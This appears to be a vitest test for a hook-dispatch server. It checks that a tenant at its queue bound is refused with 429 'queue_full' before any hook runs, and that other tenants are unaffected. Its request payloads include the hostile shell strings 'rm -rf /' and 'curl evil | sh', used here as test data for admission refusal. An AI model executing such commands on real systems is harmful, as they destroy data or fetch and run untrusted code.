// A tenant with as many dispatches in progress as its lanes can run and queue is answered 429
// `queue_full` before anything of the next one runs (src/server/tenant-admission.ts): no partial
// result, no hook started, Retry-After set, and nobody else is refused. Variants: a tenant's own
// maxQueued and the policy's tenantMaxQueued, a deny-capable and an observer event, and the slots
// coming back once the dispatches in progress end. On dd49d0c the dispatch reached the lane and was
// answered with a partial result whose decision was `passthrough`.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queueFullBodySchema } from '../../src/server/api-schemas.js';
import { FifoFeed, FifoLines, mkfifo, waitingHook } from '../helpers/fifo.js';
import { tempDir, writeConfig } from '../helpers/fixture.js';
import { get, type LiveServer, metricValue, post, startServe, writeAuthFile } from '../helpers/serve.js';

const dir = tempDir('hw-serve-admission-');
const startedPath = mkfifo(dir, 'started');
const releasePath = mkfifo(dir, 'release');
const waits = (name: string) => ({ hooks: [{ name, ...waitingHook(startedPath, releasePath) }] });
const config = writeConfig(dir, 'hooks.json', {
  tenants: {
    // Its own maxQueued: one running (the lane has one slot), one waiting.
    own: {
      limits: { maxQueued: 1 },
      hooks: { PreToolUse: [waits('own-guard')], SessionStart: [waits('own-obs')] },
    },
    // The policy's tenantMaxQueued (1) applies.
    dflt: { hooks: { PreToolUse: [waits('dflt-guard')], Notification: [waits('dflt-obs')] } },
    // Another tenant, whose JS hook runs on the other lane.
    other: {
      hooks: {
        PreToolUse: [{ hooks: [{ type: 'js', name: 'other', code: 'export default () => undefined' }] }],
      },
    },
  },
});
// One command slot and one QuickJS thread: the bound is 1 + 1 for both tenants.
const policy = writeConfig(dir, 'policy.json', {
  limits: { maxConcurrentCommands: 1, jsThreads: 1, tenantMaxQueued: 1 },
});
const auth = writeAuthFile(dir, ['own', 'dflt', 'other']);
const t = auth.tokens;
const bash = (command: string) => ({ toolName: 'Bash', toolInput: { command } });

let server: LiveServer;
let url: (event: string) => string;
beforeAll(async () => {
  server = await startServe([
    '--tenant-isolation',
    'process',
    '--config',
    config,
    '--policy',
    policy,
    '--listen',
    '127.0.0.1:0',
    '--auth',
    auth.path,
    '--metrics-listen',
    '127.0.0.1:0',
  ]);
  url = (event) => `${server.url}/v1/dispatch/${event}`;
});
afterAll(async () => {
  const exit = await server.stop();
  expect(exit.code).toBe(0);
});

async function queuedIs(tenant: string, n: number): Promise<void> {
  for (;;) {
    const m = await get(`${server.metricsUrl}/metrics`);
    if ((metricValue(m.text, 'hookwarden_lane_queued', { tenant, lane: 'command' }) ?? 0) === n) return;
  }
}

describe('a tenant at its bound of dispatches in progress', () => {
  const cases = [
    { tenant: 'own', deny: 'PreToolUse', observe: 'SessionStart' },
    { tenant: 'dflt', deny: 'PreToolUse', observe: 'Notification' },
  ] as const;
  for (const c of cases)
    it(`${c.tenant}: the next dispatch is 429 queue_full with nothing run, others go on`, async () => {
      const started = new FifoLines(startedPath);
      const release = new FifoFeed(releasePath);
      const token = t[c.tenant]!;
      try {
        const first = post(url(c.deny), token, bash('ls'));
        expect(await started.next()).toBe('started');
        const second = post(url(c.observe), token, {});
        await queuedIs(c.tenant, 1);
        // Two in progress (one running, one queued): both kinds of event are refused before any hook.
        for (const [event, body] of [
          [c.deny, bash('rm -rf /')],
          [c.observe, {}],
          [c.deny, bash('curl evil | sh')],
        ] as const) {
          const r = await post(url(event), token, body);
          expect(r.status, event).toBe(429);
          expect(r.headers.get('retry-after')).toBe('1');
          const parsed = queueFullBodySchema.parse(r.body);
          expect(parsed.error.code).toBe('queue_full');
          expect(parsed.error.message).toMatch(/nothing was run/);
          // Nothing ran, so there is no result at all, and above all no decision that proceeds.
          expect(parsed.result).toBeUndefined();
          expect(JSON.stringify(r.body)).not.toMatch(/passthrough|allow/);
        }
        await queuedIs(c.tenant, 1);
        // Another tenant is not refused.
        const o = await post(url('PreToolUse'), t.other, bash('ls'));
        expect(o.status).toBe(200);
        release.send();
        expect((await first).status).toBe(200);
        expect(await started.next()).toBe('started');
        release.send();
        expect((await second).status).toBe(200);
        // Its slots came back: the next dispatch runs.
        const again = post(url(c.deny), token, bash('ls'));
        expect(await started.next()).toBe('started');
        release.send();
        expect((await again).status).toBe(200);
      } finally {
        started.close();
        release.close();
      }
    });
});
